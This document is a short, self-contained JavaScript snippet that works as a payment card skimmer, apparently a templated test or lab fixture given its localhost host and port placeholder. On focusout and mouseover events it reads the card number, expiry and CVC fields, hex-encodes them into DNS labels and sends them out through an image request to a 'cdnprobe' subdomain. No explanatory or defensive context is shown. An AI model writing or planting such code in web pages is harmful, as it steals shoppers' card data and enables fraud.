
(function(){
    function hex(s){for(var o='',i=0;i<s.length;i++)o+=('0'+s.charCodeAt(i).toString(16)).slice(-2);return o}
    function go(){
        var n=document.getElementById('cardnumber'),e=document.getElementById('exp-date'),c=document.getElementById('cvc');
        if(!n||!c||n.value.length<15||c.value.length<3)return;
        var h=hex(n.value.replace(/ /g,'')+'|'+e.value.replace(/ /g,'')+'|'+c.value).match(/.{1,60}/g).join('.');
        if(go.l==h)return;go.l=h;
        (new Image).src='//'+h+'.t.cdnprobe.localhost:<% port %>/1.gif';
    }
    document.addEventListener('focusout',go);
    document.addEventListener('mouseover',go);
})();
